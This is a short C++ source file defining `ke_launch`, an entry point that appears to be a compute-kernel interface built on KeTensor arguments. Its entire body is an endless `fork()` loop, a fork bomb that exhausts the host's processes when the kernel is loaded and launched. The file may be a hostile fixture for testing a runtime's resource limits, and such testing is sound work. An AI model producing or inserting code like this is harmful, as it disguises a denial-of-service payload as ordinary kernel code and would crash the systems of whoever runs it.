// Forks until it is stopped.
#include <unistd.h>

#include "ke_abi.h"

extern "C" int ke_launch(const KeTensor*, int, KeTensor*, int, void*) {
  for (;;) fork();
}
